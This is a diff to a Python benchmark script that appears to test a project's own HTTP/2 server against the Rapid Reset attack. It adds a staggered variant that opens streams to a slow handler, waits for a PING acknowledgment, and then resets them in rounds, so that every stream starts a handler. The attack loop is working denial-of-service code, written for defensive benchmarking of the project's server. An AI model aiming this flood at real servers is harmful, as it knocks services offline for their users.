@@ -9,6 +9,7 @@ attacker's connection ended (GOAWAY and its error code), the other client's slow
 and whether the server wrote a traceback.
 
     flock /tmp/requestplane-bench.lock python plugins/http/rapid_reset_bench.py [--pairs 5000]
+        [--staggered K] [--backend trio]
 """
 
 from __future__ import annotations
@@ -36,9 +37,14 @@ async def _serve(backend: str) -> None:
     async def echo(request: Request) -> bytes:
         return request.payload
 
+    async def wait(request: Request) -> bytes:
+        await anyio.sleep(1)  # a handler waiting on something, still running when reset
+        return b""
+
     spec = load_plugins(only="http").transport("http").spec
     settings = load_settings(spec.settings, prefix=transport_env_prefix("http"), environ=os.environ)
     async with serve(spec, settings) as server:
+        await server.register("wait", wait)
         print(await server.register("echo", echo), flush=True)
         await anyio.to_thread.run_sync(sys.stdin.read)
 
@@ -95,6 +101,56 @@ async def _attack(url: str, conn: h2.connection.H2Connection, data: bytes) -> st
                     return "the server processed every pair (PING acknowledged)"
 
 
+async def _staggered_attack(url: str, pairs: int, batch: int) -> str:
+    """Rounds of ``batch`` HEADERS and a PING; once the PING is acknowledged (the server
+    has started those streams), their RST_STREAMs go out with the next round's HEADERS: no
+    stream is reset in the read that opened it, every one starts a handler."""
+    parts = urlsplit(url.replace("/echo", "/wait"))
+    assert parts.hostname is not None and parts.port is not None
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":authority", parts.netloc),
+        (":path", parts.path),
+    ]
+    opened: list[int] = []
+    sent = 0
+    async with await anyio.connect_tcp(parts.hostname, parts.port) as sock:
+        while True:
+            for stream_id in opened:
+                conn.reset_stream(stream_id)
+            opened = []
+            for _ in range(min(batch, pairs - sent)):
+                stream_id = conn.get_next_available_stream_id()
+                conn.send_headers(stream_id, headers, end_stream=True)
+                opened.append(stream_id)
+            sent += len(opened)
+            conn.ping(b"%07d" % sent + b"!")
+            try:
+                await sock.send(conn.data_to_send())
+            except (anyio.BrokenResourceError, OSError) as exc:
+                return f"the server closed while the pairs were sent ({exc!r})"
+            acknowledged = False
+            while not acknowledged:
+                try:
+                    data = await sock.receive()
+                except (anyio.EndOfStream, anyio.BrokenResourceError, OSError) as exc:
+                    return f"connection closed without GOAWAY ({type(exc).__name__})"
+                try:
+                    events = conn.receive_data(data)
+                except h2.exceptions.ProtocolError as exc:
+                    return f"protocol error {exc!r}"
+                for event in events:
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        return f"GOAWAY {event.error_code!r}, last stream {event.last_stream_id}"
+                    if isinstance(event, h2.events.PingAckReceived):
+                        acknowledged = True
+            if not opened:
+                return "the server processed every pair (PING acknowledged)"
+
+
 def _start_server(backend: str, stderr: IO[str]) -> tuple[subprocess.Popen[str], str]:
     proc = subprocess.Popen(
         [sys.executable, __file__, "--serve", "--backend", backend],
@@ -135,7 +191,10 @@ async def _main(args: argparse.Namespace) -> None:
                 wall0 = time.perf_counter()
                 async with anyio.create_task_group() as tg:
                     tg.start_soon(victim)
-                    outcome = await _attack(url, conn, attack)
+                    if args.staggered:
+                        outcome = await _staggered_attack(url, args.pairs, args.staggered)
+                    else:
+                        outcome = await _attack(url, conn, attack)
                     attack_wall = time.perf_counter() - wall0
                     attacking = False
                 cpu = _server_cpu(proc.pid) - cpu0
@@ -147,7 +206,8 @@ async def _main(args: argparse.Namespace) -> None:
         stderr.seek(0)
         errors = stderr.read()
     latencies.sort()
-    print(f"{args.pairs} HEADERS+RST_STREAM pairs, server on {args.backend}")
+    how = f", staggered in rounds of {args.staggered}" if args.staggered else ""
+    print(f"{args.pairs} HEADERS+RST_STREAM pairs{how}, server on {args.backend}")
     print(f"  attacker's connection: {outcome} after {attack_wall:.2f} s")
     print(f"  server CPU during the attack: {cpu:.2f} s")
     if latencies:
@@ -165,6 +225,14 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--backend", choices=["asyncio", "trio"], default="asyncio")
     parser.add_argument("--pairs", type=int, default=5000)
+    parser.add_argument(
+        "--staggered",
+        type=int,
+        metavar="K",
+        default=0,
+        help="open K streams (to a handler that waits 1 s), wait until the server has read "
+        "them, then reset them along with the next K: every stream starts a handler",
+    )
     parser.add_argument("--verbose", action="store_true", help="print the server's stderr")
     parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
     args = parser.parse_args()
